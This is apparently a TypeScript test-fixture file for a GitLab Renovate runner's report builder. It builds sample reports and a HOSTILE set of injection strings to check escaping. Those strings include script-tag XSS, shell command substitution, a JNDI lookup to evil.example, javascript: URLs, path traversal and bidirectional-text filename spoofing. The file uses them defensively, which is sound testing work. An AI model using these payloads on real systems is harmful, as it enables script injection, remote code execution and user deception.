import type { Result } from '../../../runner/engine.ts';
import { MergeRequest } from '../../../runner/gitlab/schema.ts';
import { buildReport, type Gathered, type RunFacts } from '../../../runner/report/build.ts';
import { WAITS, type Coverage, type MergeRequestLine, type ProjectReport, type Report, type WaitCode, type Waiting } from '../../../runner/report/model.ts';

export const GITLAB = 'https://gitlab.example.com';
export const STARTED = '2026-03-02T04:00:00.000Z';
export const FINISHED = '2026-03-02T04:12:30.500Z';

export const FACTS: RunFacts = { runner: '0.1.0', renovate: '44.121.2', endpoint: `${GITLAB}/api/v4/`, startedAt: STARTED, finishedAt: FINISHED, dryRun: false, interrupted: false };

/** What somebody may write into a title, a path or a message. */
export const HOSTILE: Readonly<Record<string, string>> = {
  script: '</script><script>alert(1)</script>',
  attribute: `" onmouseover="alert(1)' x='`,
  shell: '$(id) `id` ${jndi:ldap://evil.example/a}',
  lines: 'first\r\n\r\n/merge\n# heading\n| a | b |',
  rightToLeft: 'abc\u202egpj.exe\u200f\u2066',
  emoji: '🚀 👩‍👩‍👧 :tada:',
  long: 'x'.repeat(300),
  references: '@all #1 !1 &1 ~bug %1 $1 ^1 [vulnerability:1] GL-123',
  markup: '[x](https://evil.example) ![x](y) **b** _i_ ~~s~~ `c` <img src=x> | a || b \\| \\',
  addresses: 'https://evil.example www.evil.example mail@evil.example',
  controls: '\u001b[31mred\u001b]0;title\u0007 \u0000\u0008\u009b\ufffe',
  broken: 'half \ud83d a rocket, &amp; &#106; &copy;',
  blank: ' \u200b ',
};

function daysBefore(iso: string, days: number): string {
  return new Date(Date.parse(iso) - days * 86_400_000).toISOString();
}

export function line(iid: number, title: string, overrides: Partial<MergeRequestLine> = {}): MergeRequestLine {
  return { iid, title, url: `${GITLAB}/platform/cluster/-/merge_requests/${iid}`, branch: `renovate/${iid}`, labels: [], ...overrides };
}

export function waiting(code: WaitCode, days: number, overrides: Partial<Waiting> = {}): Waiting {
  return { code, whom: `whom of ${code}`, title: `Update chart ${code}`, url: `${GITLAB}/platform/cluster/-/merge_requests/${days}`, iid: days, branch: `renovate/${code}`, since: daysBefore(FINISHED, days), ...overrides };
}

export function coverage(managed: number, unmanaged = 0, rest: Partial<Coverage> = {}): Coverage {
  const { duplicate = 0, mismatch = 0, ignored = 0 } = rest;
  return { pins: managed + unmanaged + duplicate + mismatch + ignored, managed, unmanaged, duplicate, mismatch, ignored };
}

/** A project where nothing was to do. */
export function project(path: string, overrides: Partial<ProjectReport> = {}): ProjectReport {
  const nothing = { opened: [], updated: [], merged: [], closed: [], pushed: [], waiting: [], warnings: [] };
  return { path, url: `${GITLAB}/${path}`, account: '', status: 'done', outcome: 'done', message: 'done', remedy: null, attempts: 1, seconds: 2, coverage: null, log: 'logs/batch-001.ndjson', ...nothing, ...overrides };
}

export function failed(path: string, overrides: Partial<ProjectReport> = {}): ProjectReport {
  return project(path, { status: 'failed', outcome: 'config-validation', message: 'its Renovate config is invalid', remedy: 'Run `renovate-argocd check` in the project.', ...overrides });
}

export function report(projects: readonly ProjectReport[], rest: { readonly facts?: Partial<RunFacts>; readonly skipped?: Report['skipped']; readonly problems?: readonly string[]; readonly incidents?: Report['incidents']; readonly previous?: Report | null } = {}): Report {
  const { facts = {}, skipped = [], problems = [], incidents = [], previous = null } = rest;
  return buildReport({ ...FACTS, ...facts }, projects, skipped as Parameters<typeof buildReport>[2], problems, previous, incidents);
}

const YESTERDAY = report([failed('platform/mended'), project('platform/broken', { coverage: coverage(4) }), project('teams/gone')], { facts: { startedAt: daysBefore(STARTED, 1), finishedAt: daysBefore(FINISHED, 1) } });

/** One of everything that a report can hold. */
export const EVERYTHING: Report = report(
  [
    failed('platform/broken', { attempts: 3, warnings: ['Host error: charts.example.org: 502', 'Cannot find preset'] }),
    project('platform/cluster', {
      seconds: 95.4,
      opened: [line(12, 'Update Helm release cert-manager to v1.19.1')],
      updated: [line(11, 'Update Helm release ingress-nginx to v4.13.2')],
      merged: [line(9, 'Update Helm release loki to v6.40.0'), line(10, 'Update Helm release tempo to v1.23.3')],
      closed: [line(8, 'Update Helm release vault to v0.30.0')],
      pushed: ['renovate/external-dns-1.x'],
      waiting: WAITS.map((code, index) => waiting(code, index * 3)),
      coverage: coverage(38, 3, { duplicate: 1, mismatch: 2, ignored: 4 }),
    }),
    project('platform/mended', { warnings: ['coverage: it could not be cloned'], seconds: 31 }),
    project('platform/off', { status: 'disabled', outcome: 'disabled-closed-onboarding', message: 'somebody closed the merge request that proposed a config', remedy: 'Rename that merge request, or commit a renovate.json.' }),
    failed('teams/late', { outcome: 'interrupted', message: 'the run was interrupted', remedy: 'It is done in the next run.', attempts: 0, seconds: 0, log: null }),
    project('teams/quiet', { coverage: coverage(7) }),
  ],
  {
    facts: { interrupted: true },
    skipped: [
      { path: 'teams/old', reason: 'archived' },
      { path: 'teams/plain', reason: 'no-config' },
      { path: 'teams/strange', reason: 'of-a-later-version' },
    ],
    problems: ['Cannot reach the cache'],
    incidents: [{ project: 'platform/cluster', action: '#3: open a merge request: Put loki back to 6.39.0 (suspect of #3)' }],
    previous: YESTERDAY,
  },
);

/** Hostile text wherever text is, and addresses that no link may have. */
export const HOSTILE_REPORT: Report = report(
  Object.values(HOSTILE).flatMap((text) => [
    failed(`group/${text}`, { url: 'javascript:alert(1)', message: text, remedy: text, warnings: [text], outcome: text, log: `../../${text}` }),
    project(`done/${text}`, {
      url: `data:text/html,${text}`,
      account: text,
      opened: [line(1, text, { url: ' java\nscript:alert(1)' })],
      merged: [line(2, text, { url: `${GITLAB}/a"><script>alert(1)</script>|(x)` })],
      pushed: [text],
      waiting: [waiting('approval', 3, { title: text, whom: text, url: 'https://user:secret@evil.example/' }), waiting('schedule', 3, { title: text, whom: text, url: 'ftp://evil.example/' })],
      warnings: [text],
      log: text,
    }),
    project(`off/${text}`, { status: 'disabled', message: text, remedy: text }),
  ]),
  { facts: { renovate: HOSTILE['script']!, endpoint: HOSTILE['markup']! }, skipped: Object.values(HOSTILE).map((text) => ({ path: text, reason: text })), problems: Object.values(HOSTILE), incidents: Object.values(HOSTILE).map((text) => ({ project: text, action: text })), previous: report([]) },
);

/** A cluster of teams: most projects are idle, a third has something open. */
export function manyProjects(count: number): Report {
  const projects = Array.from({ length: count }, (_, index) => {
    const path = `company/platform/team-${index % 60}/cluster-config-${index}`;
    const url = `${GITLAB}/${path}`;
    const request = (iid: number): MergeRequestLine => line(iid, `Update Helm release kube-prometheus-stack to v${iid}.2.${index}`, { url: `${url}/-/merge_requests/${iid}` });
    if (index % 40 === 0) return failed(path, { url, warnings: ['Host error: charts.example.org: 502'] });
    if (index % 3 !== 0) return project(path, { url, seconds: 1 + (index % 7), coverage: coverage(12 + (index % 9), index % 11 === 0 ? 2 : 0) });
    return project(path, { url, seconds: 10 + (index % 50), opened: [request(3)], merged: [request(2)], waiting: [waiting('approval', index % 90, { ...request(3), whom: '@alice, @bob' }), waiting('release-age', index % 5, { iid: null, url: null })], coverage: coverage(20, 1) });
  });
  return report(projects);
}

const GATHERED: Gathered = { url: `${GITLAB}/platform/cluster`, open: [], changed: [], dashboard: `${GITLAB}/platform/cluster/-/issues`, coverage: null, warnings: [] };

export function gathered(overrides: Partial<Gathered> = {}): Gathered {
  return { ...GATHERED, ...overrides };
}

export function result(overrides: Partial<Result> = {}): Result {
  return { path: 'platform/cluster', account: '', outcome: 'done', attempts: 1, seconds: 12.34, trace: null, batch: 1, lastWords: '', ...overrides };
}

/** A merge request as GitLab's answer to the runner. */
export function mergeRequest(overrides: Partial<MergeRequest> = {}): MergeRequest {
  const raw = { iid: 5, title: 'Update chart web', description: '', state: 'opened', source_branch: 'renovate/web', target_branch: 'main', author: { username: 'renovate' }, created_at: daysBefore(STARTED, 4), updated_at: STARTED, detailed_merge_status: 'mergeable', web_url: `${GITLAB}/platform/cluster/-/merge_requests/5` };
  return { ...MergeRequest.parse(raw), ...overrides };
}
